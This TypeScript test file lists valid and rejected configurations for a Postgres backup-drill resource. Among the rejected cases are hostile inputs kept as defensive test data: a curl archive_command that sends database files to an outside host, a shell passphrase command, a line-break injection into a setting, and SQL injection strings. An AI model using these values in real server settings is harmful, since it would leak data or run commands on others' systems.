import type { ApiCase } from './api-case.ts';
import { bad, good } from './api-case.ts';

type Set = ApiCase['set'];
const source = (value: unknown): Set => ({ 'spec.source': value });
const pick = (value: unknown): Set => ({ 'spec.source.pick': value });
const schedule = (text: unknown): Set => ({ 'spec.schedule': text });
const image = (value: unknown): Set => ({ 'spec.server.image': value });
const settings = (value: unknown): Set => ({ 'spec.server.settings': value });
const volume = (value: unknown): Set => ({ 'spec.server.volume': value });
const checks = (value: unknown): Set => ({ 'spec.checks': value });
const application = (value: unknown): Set => ({ 'spec.checks.application': value });
const required = (value: unknown): Set => ({ 'spec.audit.required': [value] });
const failOn = (...findings: unknown[]): Set => ({ 'spec.audit.failOn': findings });
const assertion = { name: 'orders', sql: 'SELECT count(*) FROM orders', expect: { atLeast: '1' } };
const assertions = (...values: readonly object[]): Set => ({ 'spec.checks.assertions': values });
const expectation = (expect: unknown): Set => assertions({ ...assertion, expect });
const path = (text: string): Set =>
  source({ repository: { repositoryRef: { name: 'offsite' }, path: text } });
const command = ['shop', 'check'];
const digest = `sha256:${'0'.repeat(64)}`;
const manySettings = Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`setting_${i}`, 'x']));

/** What a user may copy: every part of the kind at once. */
const whole = {
  source: { backupRef: { name: 'shop' }, pick: 'Newest' },
  identitySecretRef: { name: 'shop-age-identity', key: 'identity' },
  schedule: '0 3 1 * *',
  timeZone: 'Europe/Berlin',
  jitterSeconds: 600,
  startingDeadlineSeconds: 3600,
  suspend: false,
  server: {
    image: 'postgis/postgis:16-3.4',
    settings: { shared_preload_libraries: 'timescaledb', 'timescaledb.telemetry_level': 'off' },
    resources: { requests: { cpu: 2, memory: '2Gi' }, limits: { memory: '4Gi' } },
    volume: { storageClassName: 'fast', size: '40Gi', sizeFactor: '1.3' },
  },
  checks: {
    indexes: 'Full',
    constraints: true,
    sequences: true,
    write: true,
    assertions: [
      assertion,
      {
        name: 'no orphans',
        sql: 'SELECT 1 FROM items i LEFT JOIN orders o ON o.id = i.order_id WHERE o.id IS NULL',
        database: 'shop',
        expect: { rows: 0 },
        timeoutSeconds: 300,
      },
    ],
    application: {
      image: 'registry.example.net/shop:1.9',
      command,
      database: 'shop',
      http: { path: '/healthz?full=1', port: 8080 },
      resources: { limits: { memory: '2Gi' } },
      timeoutSeconds: 120,
    },
  },
  audit: {
    required: [{ table: 'public.audit_log', columns: ['tenant_id', 'created_at'], name: 'audit_log_tenant' }],
    failOn: ['Invalid', 'RequiredMissing'],
  },
  negativeControl: true,
  objectives: { recoveryTimeSeconds: 3600, recoveryPointSeconds: 900 },
  keepFailedSeconds: 1800,
  limits: { deadlineSeconds: 14_400, retries: 1 },
  worker: {
    resources: { requests: { cpu: '500m', memory: '256Mi' }, limits: { memory: '512Mi' } },
    priorityClassName: 'batch-low',
  },
};

const accepted = good('BackupDrill', [
  ['everything at once', { spec: whole }],
  ['the least', {}],
  ['a monthly schedule', schedule('0 3 1 * *')],
  ['an alias', schedule('@weekly')],
  ['a backup whose object is lost', path('shop/shop')],
  ['a backup with dots in its name', path('team-a/shop.v2')],
  ['the newest run', pick('Newest')],
  ['the oldest run', pick('Oldest')],
  ['any run', pick('Random')],
  ['a run by its id', pick('20261120T012140Z-7f3a')],
  ['a run by its time alone', pick('20261120T012140Z')],
  ['an official image', image('postgres:17')],
  ['an image by digest', image(`ghcr.io/cloudnative-pg/postgresql:17.2@${digest}`)],
  ['an image of a registry with a port', image('localhost:5000/team/postgis:16-3.4')],
  ['a setting of an extension', settings({ 'pg_stat_statements.max': '100' })],
  ['a setting without a value', settings({ shared_preload_libraries: '' })],
  ['a volume of a class, sized by the manifest', volume({ storageClassName: 'fast' })],
  ['a volume of a size', volume({ size: '2Ti' })],
  ['the smallest factor', volume({ sizeFactor: '1' })],
  ['a large factor', volume({ sizeFactor: '12.25' })],
  [
    'no check that can be left out',
    checks({ indexes: 'None', constraints: false, sequences: false, write: false }),
  ],
  ['indexes by themselves', checks({ indexes: 'Structure' })],
  ['a value', expectation({ equals: '42.00' })],
  ['an empty value', expectation({ equals: '' })],
  ['a value as number', expectation({ equals: 42 })],
  ['a least value', expectation({ atLeast: '1' })],
  ['a least value as number', expectation({ atLeast: 1 })],
  ['a range below zero', expectation({ atLeast: '-3.5', atMost: '-3.5' })],
  ['a range with a larger number of digits', expectation({ atLeast: '9', atMost: '10' })],
  ['no row', expectation({ rows: 0 })],
  [
    'a set of rows',
    expectation({
      rowSet: [
        ['EUR', 2],
        ['USD', 'x'],
      ],
    }),
  ],
  [
    'an application that is asked over HTTP',
    application({ image: 'shop:1.9', command, http: { path: '/', port: 8080 } }),
  ],
  ['an application that ends', application({ image: 'shop:1.9', command: ['check'] })],
  ['an index by name', required({ table: 'public.orders', name: 'orders_customer' })],
  ['an index by columns', required({ table: '"Shop"."Orders"', columns: ['Customer Id', 'placed'] })],
  [
    'every finding',
    failOn(
      'RequiredMissing',
      'Invalid',
      'ForeignKeyUnindexed',
      'Duplicate',
      'Redundant',
      'Unused',
      'Bloated',
    ),
  ],
  ['a server that stays up for a day', { 'spec.keepFailedSeconds': 86_400 }],
  ['no negative control', { 'spec.negativeControl': false }],
  ['a promise of time alone', { 'spec.objectives': { recoveryTimeSeconds: 3600 } }],
  [
    'queries with comments and brackets before them, in any case',
    assertions(
      { ...assertion, name: 'a', sql: '-- DROP\n/* a * b */ ((select 1))' },
      { ...assertion, name: 'b', sql: '\n  With o AS (TABLE orders) SELECT 1 FROM o' },
      { ...assertion, name: 'c', sql: 'values(1)' },
      { ...assertion, name: 'd', sql: `SELECT '${'x'.repeat(8183)}'` },
    ),
  ],
  [
    'an assertion just within the deadline',
    { ...assertions({ ...assertion, timeoutSeconds: 599 }), 'spec.limits.deadlineSeconds': 600 },
  ],
  [
    'the same table twice in the audit',
    {
      'spec.audit.required': [
        { table: 'public.a', columns: ['b'] },
        { table: 'public.a', columns: ['c'] },
      ],
    },
  ],
]);

const oneSource = 'give exactly one of backupRef and repository';
const anImage = 'must be the name of an image';
const aSize = 'must be a whole number of Mi, Gi or Ti: 40Gi';
const keptAlone = 'what keeps the server to itself';
const oneForm = 'give exactly one of equals, rows, rowSet, and a range';
const inTime = 'must be less than limits.deadlineSeconds';

const refused = bad('BackupDrill', [
  ['no source', { 'spec.source': undefined }],
  ['an empty source', source({}), oneSource],
  [
    'two sources',
    source({
      backupRef: { name: 'shop' },
      repository: { repositoryRef: { name: 'offsite' }, path: 'shop/shop' },
    }),
    oneSource,
  ],
  ['a backup of another namespace', source({ backupRef: { name: 'shop', namespace: 'other' } })],
  ['a path without a name', path('shop'), 'must be namespace and name'],
  ['a path that leads upwards', path('shop/../other'), 'must be namespace and name'],
  ['a path of evidence', path('_drills/shop'), 'must be namespace and name'],
  ['a path with a slash at its end', path('shop/shop/'), 'must be namespace and name'],
  ['a pick in lower case', pick('newest'), 'must be Newest, Oldest, Random'],
  ['a pick by date', pick('2026-11-20'), 'must be Newest, Oldest, Random'],
  ['a pick with a folder', pick('20261120T012140Z-7f3a/x'), 'must be Newest, Oldest, Random'],
  ['a schedule of words', schedule('every month'), 'must be five cron fields'],
  ['30 February', schedule('0 3 30 2 *'), 'never comes'],
  ['a zone that does not exist', { 'spec.timeZone': 'Mars/Phobos' }, 'must be the name of an IANA time zone'],
  ['an identity in the spec', { 'spec.identitySecretRef': { name: 'a', identity: 'AGE-SECRET-KEY-1' } }],
  ['an image by its address', image('https://registry.example.net/postgres:17'), anImage],
  ['an image in capitals', image('Postgres:17'), anImage],
  ['an image with a space', image('postgres: 17'), anImage],
  ['an image that looks like an option', image('-v'), anImage],
  ['a listening server', settings({ listen_addresses: '*' }), keptAlone],
  ['another port', settings({ port: '5433' }), keptAlone],
  ['another socket', settings({ unix_socket_directories: '/tmp' }), keptAlone],
  ['another authentication file', settings({ hba_file: '/tmp/hba' }), keptAlone],
  ['a command of the archiver', settings({ archive_command: 'curl http://x -d @%p' }), keptAlone],
  ['a command for a passphrase', settings({ ssl_passphrase_command: 'sh -c id' }), keptAlone],
  ['another file of settings', settings({ include_dir: '/tmp' }), keptAlone],
  ['a log somewhere else', settings({ logging_collector: 'on' }), keptAlone],
  ['damaged pages passed over', settings({ zero_damaged_pages: 'on' }), keptAlone],
  ['triggers and foreign keys passed over', settings({ session_replication_role: 'replica' }), keptAlone],
  ['a server that crashed and came back', settings({ restart_after_crash: 'on' }), keptAlone],
  ['a setting in capitals', settings({ Max_Connections: '10' }), 'must be the name of a setting'],
  [
    'a setting with a line break in its name',
    settings({ 'work_mem\nlisten_addresses': '*' }),
    'must be the name of a setting',
  ],
  ['a setting with a line break in its value', settings({ work_mem: "1MB'\nlisten_addresses = '*" })],
  ['a setting as number', settings({ max_connections: 10 })],
  ['more settings than there is room for', settings(manySettings)],
  ['a size without a unit', volume({ size: '40' }), aSize],
  ['a size in decimal units', volume({ size: '40G' }), aSize],
  ['a size of nothing', volume({ size: '0Gi' }), aSize],
  ['a size beyond every disk', volume({ size: '99999999Ti' }), aSize],
  ['a factor below one', volume({ sizeFactor: '0.9' }), 'must be at least 1'],
  ['a factor of nothing', volume({ sizeFactor: '0' }), 'must be at least 1'],
  ['a factor in percent', volume({ sizeFactor: '150%' }), 'must be at least 1'],
  ['a factor of hundreds', volume({ sizeFactor: '150' }), 'less than 100'],
  ['a path on the node as volume', volume({ hostPath: '/var' })],
  [
    'a request of the server over its limit',
    { 'spec.server.resources': { requests: { memory: '2Gi' }, limits: { memory: '1Gi' } } },
    'requests.memory must not be larger',
  ],
  ['indexes that are checked otherwise', checks({ indexes: 'Quick' })],
  ['a check that is not known', checks({ rows: false })],
  ['an assertion without name', assertions({ sql: 'SELECT 1', expect: { rows: 1 } })],
  ['an assertion without SQL', assertions({ ...assertion, sql: '' })],
  [
    'an assertion that changes something',
    assertions({ ...assertion, sql: 'DROP TABLE orders' }),
    'must be one query: it begins with SELECT, WITH, VALUES or TABLE',
  ],
  ['an assertion that begins with another word', assertions({ ...assertion, sql: 'selected' }), 'one query'],
  ['an assertion without expectation', assertions({ name: 'a', sql: 'SELECT 1' })],
  ['two assertions of one name', assertions(assertion, { ...assertion, sql: 'SELECT 1' })],
  ['an assertion with a line break in its name', assertions({ ...assertion, name: 'a\nb' })],
  ['an expectation of nothing', expectation({}), oneForm],
  ['a value and a number of rows', expectation({ equals: '1', rows: 1 }), oneForm],
  ['a value and a range', expectation({ equals: '1', atLeast: '1' }), oneForm],
  ['a range and a number of rows', expectation({ atMost: '1', rows: 1 }), oneForm],
  [
    'a range downwards',
    expectation({ atLeast: '10', atMost: '9' }),
    'atLeast must not be larger than atMost',
  ],
  [
    'a range downwards, as numbers',
    expectation({ atLeast: 10, atMost: 9 }),
    'atLeast must not be larger than atMost',
  ],
  ['a bound in words', expectation({ atLeast: 'many' })],
  ['a bound that SQL would read', expectation({ atLeast: '1 OR true' })],
  ['a bound in scientific form', expectation({ atMost: '1e9' })],
  ['a bound with a point and without quotes', expectation({ atLeast: 0.5 })],
  ['a set of no rows', expectation({ rowSet: [] })],
  ['a set with a row without columns', expectation({ rowSet: [[]] })],
  ['a set of values that are no rows', expectation({ rowSet: ['EUR'] })],
  ['a set and a number of rows', expectation({ rowSet: [['EUR']], rows: 1 }), oneForm],
  ['less than no row', expectation({ rows: -1 })],
  ['an assertion of no time', assertions({ ...assertion, timeoutSeconds: 0 })],
  [
    'an assertion that outlasts the drill',
    { ...assertions({ ...assertion, timeoutSeconds: 600 }), 'spec.limits.deadlineSeconds': 600 },
    inTime,
  ],
  [
    'an application that outlasts the drill',
    {
      ...application({ image: 'shop:1.9', command, timeoutSeconds: 900 }),
      'spec.limits.deadlineSeconds': 600,
    },
    inTime,
  ],
  ['an application without command', application({ image: 'shop:1.9' })],
  ['an application with an empty command', application({ image: 'shop:1.9', command: [] })],
  ['an application without image', application({ command })],
  ['an application by address', application({ image: 'http://shop', command }), anImage],
  [
    'an application on a port of the system',
    application({ image: 'shop:1.9', command, http: { path: '/', port: 80 } }),
  ],
  [
    'an application on the port of the worker beside it',
    application({ image: 'shop:1.9', command, http: { path: '/progress', port: 9188 } }),
    'must be another port than 9188',
  ],
  [
    'an application asked at a whole address',
    application({ image: 'shop:1.9', command, http: { path: 'http://x/', port: 8080 } }),
    'must be a path with its leading slash',
  ],
  [
    'an application with Secrets',
    application({ image: 'shop:1.9', command, envFrom: [{ secretRef: { name: 'x' } }] }),
  ],
  ['an application as root', application({ image: 'shop:1.9', command, securityContext: { runAsUser: 0 } })],
  [
    'an application that asks for more than it may use',
    application({
      image: 'shop:1.9',
      command,
      resources: { requests: { cpu: 2 }, limits: { cpu: '500m' } },
    }),
    'requests.cpu must not be larger',
  ],
  ['an index of nothing', required({ table: 'public.orders' }), 'give columns or name'],
  [
    'an index of a table without schema',
    required({ table: 'orders', columns: ['a'] }),
    'must be schema.table',
  ],
  ['a finding twice', failOn('Invalid', 'Invalid')],
  ['a finding that is not known', failOn('Slow')],
  ['a recovery in no time', { 'spec.objectives.recoveryTimeSeconds': 0 }],
  ['a negative promise', { 'spec.objectives.recoveryPointSeconds': -1 }],
  ['a server that stays up for a week', { 'spec.keepFailedSeconds': 604_800 }],
  ['a deadline of a second', { 'spec.limits.deadlineSeconds': 1 }],
  ['retries without end', { 'spec.limits.retries': 1000 }],
  ['negative control in words', { 'spec.negativeControl': 'Sometimes' }],
  ['a connection', { 'spec.connection': { secretRef: { name: 'shop-db' } } }],
  ['a service account', { 'spec.worker.serviceAccountName': 'admin' }],
  ['a field that is not known', { 'spec.asertions': [] }],
]);

const longTable = `public.${'ö'.repeat(40)}`;
const operatorOnly: readonly ApiCase[] = (
  [
    ['30 February by a range of months', schedule('0 3 30 2-2 *'), 'never comes'],
    [
      'a required index of a table name of 80 bytes',
      required({ table: longTable, columns: ['a'] }),
      'at most 63 bytes',
    ],
    [
      'more SQL than a Job can carry',
      assertions(
        ...Array.from({ length: 30 }, (_, i) => ({
          ...assertion,
          name: `a${i}`,
          sql: 'SELECT 1'.padEnd(8192),
        })),
      ),
      'at most',
    ],
  ] as const
).map(([name, set, says]) => ({ name, kind: 'BackupDrill', set, verdict: 'operator', says }));

export const backupDrillCases: readonly ApiCase[] = [...accepted, ...refused, ...operatorOnly];
